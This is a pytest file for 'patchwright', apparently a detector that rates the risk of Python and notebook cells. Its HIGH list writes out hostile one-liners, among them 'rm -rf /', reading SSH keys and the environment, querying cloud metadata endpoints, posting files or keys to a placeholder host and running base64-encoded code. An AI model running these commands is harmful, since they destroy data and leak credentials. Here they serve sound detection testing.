"""Python code is judged by what it calls, also through aliases and magics."""

from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from patchwright.core.events.payload import Risk
from patchwright.core.security.python_code import judge_python, read_cell
from patchwright.core.security.shell.judge import judge_script

LOW = [
    "print(1 + 1)",
    "import os\nos.getcwd(), os.listdir('.')",
    "open('a.txt').read()",
    "open('a.txt', 'w').write('rm -rf /')",
    "from pathlib import Path\nPath('src/a.py').write_text('x')",
    "import subprocess\nsubprocess.run(['pytest', '-q'], check=True)",
    "import requests\nrequests.post('http://localhost:8000/a', json={})",
    "import shutil\nshutil.rmtree('build')",
    "import socket\nsocket.gethostname()",
    "!ls -la",
    "%cd src",
    "%%bash\nls | wc -l",
    "%%time\nx = 1",
    "%timeit sum(range(9))",
    "a != b",
    "a = 7 % b",
    "eval('1 + 1')",
    "def system(x): ...\nsystem('rm -rf /')",
]
MEDIUM = [
    "import subprocess\nsubprocess.run(command)",
    "import requests\nrequests.get('https://a.example')",
    "exec(text)",
    "import shutil\nshutil.rmtree(folder)",
    "getattr(os, name)('ls')",
    "__import__(name)",
    "!pip install requests",
    "%pip install requests",
    "not Python at all.",
    "x = '\0'\0",
]
HIGH = [
    "import os\nos.system('rm -rf /')",
    "import os as o\no.popen('sudo ls')",
    "from os import system as s\ns('rm -rf /')",
    "from subprocess import run\nrun(['rm', '-rf', '/'])",
    "import subprocess\nsubprocess.Popen(['bash', '-c', 'rm -rf /'])",
    "import subprocess\nsubprocess.run(['rm', '-rf', '/', name])",
    "import subprocess\nsubprocess.run('rm ' + '-rf /', shell=True)",
    "__import__('os').system('rm -rf /')",
    "import importlib\nimportlib.import_module('os').system('rm -rf /')",
    "getattr(__import__('os'), 'system')('rm -rf /')",
    "import requests\nrequests.post('https://a.example', data=open('x'))",
    "import requests\nrequests.get('https://a.example', params={'k': key})",
    "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/')",
    "url = 'http://metadata.google.internal/computeMetadata'",
    "import socket\nsocket.create_connection(('a.example', 1))",
    "from socket import socket\nsocket().connect(address)",
    "import shutil\nshutil.rmtree('/')",
    "import os\nos.remove('/etc/hosts')",
    "open('/etc/cron.d/a', 'w')",
    "open('/proc/self/environ').read()",
    "from pathlib import Path\nPath('~/.ssh/id_rsa').expanduser().read_text()",
    "from pathlib import Path\nPath('.git/hooks/pre-commit').write_text('x')",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "exec(bytes.fromhex('7072'))",
    "import pickle\npickle.loads(data)",
    "import ctypes\nctypes.CDLL('libc.so.6')",
    'eval(\'__import__("os").system("rm -rf /")\')',
    "!rm -rf /",
    "x = !rm -rf /",
    "%%bash\nrm -rf /",
    "%sx rm -rf /",
    "x = %system rm -rf /",
    "%timeit __import__('os').system('rm -rf /')",
    "%%time\nimport os\nos.system('rm -rf /')",
    "get_ipython().system('rm -rf /')",
]


def _risks(codes: list[str]) -> dict[str, Risk]:
    return {code: judge_python(code, judge_script).risk for code in codes}


@pytest.mark.parametrize(
    ("risk", "codes"), [(Risk.LOW, LOW), (Risk.MEDIUM, MEDIUM), (Risk.HIGH, HIGH)]
)
def test_each_example_has_its_risk(risk: Risk, codes: list[str]) -> None:
    assert _risks(codes) == dict.fromkeys(codes, risk)


def test_code_within_code_is_followed_only_so_far() -> None:
    code = "1"
    for _ in range(9):
        code = f"eval({code!r})"
    assert judge_python(code, judge_script).risk is Risk.HIGH
    assert judge_python("(" * 5_000 + ")" * 5_000, judge_script).risk is Risk.MEDIUM
    chain = "a" + "().b" * 2_000
    assert judge_python(f"{chain}()", judge_script).risk is Risk.HIGH
    long = "+".join(["'a'"] * 2_000)
    assert judge_python(f"os.system({long})", judge_script).risk is Risk.HIGH


PIECES = st.sampled_from(
    [
        *("os", "system", "eval", "open", "getattr", "lambda", "import ", "\ud800"),
        *(".", "(", ")", "[", "]", "'", '"', "\n", " ", "!", "%", "=", ",", "*"),
        *(":", "\\", "#", "\0", "é"),
    ]
)


@given(code=st.lists(PIECES, max_size=30).map("".join) | st.text(max_size=40))
def test_any_text_is_judged(code: str) -> None:
    assert judge_python(code, judge_script).risk in set(Risk)


@given(code=st.sampled_from(HIGH), data=st.data())
def test_broken_code_is_judged(code: str, data: st.DataObject) -> None:
    at = data.draw(st.integers(0, len(code)))
    other = data.draw(st.lists(PIECES, max_size=3).map("".join))
    assert judge_python(code[:at] + other + code[at:], judge_script).risk in set(Risk)


@pytest.mark.parametrize("piece", [" ", "\n", "\t", "a ", "a=", "!", "%a", " \n"])
def test_h11_a_long_cell_is_read_in_time(piece: str) -> None:
    begun = process_time()
    read_cell(piece * 32_000)
    assert process_time() - begun < 2.0


def test_signs_of_percent_inside_of_a_cell_are_no_magic() -> None:
    code = "x = '100 %% of all'\n"
    assert read_cell(code).python == code
